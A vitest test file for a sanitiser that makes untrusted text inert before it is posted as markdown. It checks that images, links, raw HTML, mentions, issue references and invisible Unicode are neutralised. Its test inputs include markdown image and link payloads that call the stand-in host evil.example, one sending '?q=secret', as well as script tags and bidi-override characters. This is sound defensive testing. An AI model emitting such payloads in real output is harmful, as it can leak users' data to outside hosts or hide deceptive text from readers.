import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { codeBlock, inert, inertLine, inertLines, inlineCode } from '../../../src/publishing/inert.ts';

/** What a renderer makes of it, so that the tests speak about pages and not about backslashes. */
const html = (markdown: string): string => marked.parse(markdown, { async: false, gfm: true });

describe('hostile text in what we post (SEC-16)', () => {
  it.each([
    ['an image', '![x](https://evil.example/?q=secret)', /<img/],
    ['a reference image', '![x][y]\n\n[y]: https://evil.example', /<img/],
    ['raw HTML', '<img src=https://evil.example><script>1</script>', /<(?:img|script)/],
    ['a link', '[click](https://evil.example)', /<a /],
    ['an autolink', '<https://evil.example>', /<a /],
    ['a bare URL', 'see https://evil.example or www.evil.example', /<a /],
    ['a heading', '# Approved', /<h1/],
    ['a list', '- item', /<li/],
    ['a table', 'a | b\n---|---\n1 | 2', /<table/],
    ['a comment that hides', '<!-- promptops:record -->', /<!--/],
    ['bold', '**trusted**', /<strong/],
    ['a footnote', '[^1]\n\n[^1]: https://evil.example', /<a /],
    ['a mail address', 'mail boss@evil.example', /<a /],
    ['code that is closed early', '`a` ![x](https://evil.example) `b`', /<img/],
  ])('%s stays text', (_, text, forbidden) => {
    expect(html(`Note: ${inert(text)}`)).not.toMatch(forbidden);
    expect(html(`| a |\n|---|\n| ${inlineCode(text)} |`)).not.toMatch(/<img|<script|<a |<h1|<strong/);
    expect(html(codeBlock(text))).not.toMatch(/<img|<script|<a |<h1|<strong/);
  });

  it.each([
    '# Approved',
    '###### small',
    '- item',
    '+ item',
    '* item',
    '1. item',
    '12) item',
    '> said',
    '---',
    '===',
    '- [x] reviewed',
    '    code',
    '```\ncode',
    '~~~\ncode',
    '| a |\n|---|\n| b |',
  ])('%j at the beginning of a line makes no block', (text) => {
    expect(html(`before\n\n${inert(text)}\n\nafter`)).not.toMatch(/<(?:h\d|li|ul|ol|blockquote|hr|pre|table|input)/);
    expect(html(`before\n${inert(text)}`)).not.toMatch(/<(?:h\d|li|ul|ol|blockquote|hr|pre|table|input)/);
  });

  it('is no formula', () => {
    expect(inert('costs $x$ and $$y$$')).toBe('costs \\$x\\$ and \\$\\$y\\$\\$');
  });

  it('is harmless in annotations too, line by line', () => {
    expect(inertLines('a\r\n@octocat \u202Eevil https://evil.example')).not.toMatch(/@o|\u202E|:\/\//);
    expect(inertLines('a\nb')).toBe('a\nb');
  });

  it.each(['ping @octocat', 'Fixes #12', 'closes org/repo#3', 'resolves GH-7', 'ask @org/team'])(
    '%s acts on nobody',
    (text) => {
      const acting = /@[A-Za-z]|#\d|GH-\d/;
      expect(inert(text)).not.toMatch(acting);
      expect(inertLine(text)).not.toMatch(acting);
    },
  );

  it('removes what people cannot see', () => {
    const hidden = 'a\u200Bb\u202Ec\u{E0041}d\u0007e\uFE0F';
    expect(inert(hidden)).toBe('abcde');
    expect(inlineCode(hidden)).toBe('`abcde`');
    expect(codeBlock(hidden)).toBe('```text\nabcde\n```');
  });

  it('cannot be closed from inside', () => {
    expect(html(codeBlock('```\n# out\n```'))).not.toContain('<h1');
    expect(html(inlineCode('a`` b `c'))).toContain('<code>a`` b `c</code>');
    expect(html(`| x |\n|---|\n| ${inlineCode('a | b')} |`).match(/<td>/g)).toHaveLength(1);
  });

  it('keeps what deterministic texts mark as code', () => {
    expect(html(inert('set `spec.replicas` to 5'))).toContain('<code>spec.replicas</code>');
  });

  it('cuts long text and says so', () => {
    expect(inert('x'.repeat(5_000)).length).toBeLessThan(700);
    expect(inert('x'.repeat(5_000))).toMatch(/…$/);
  });
});
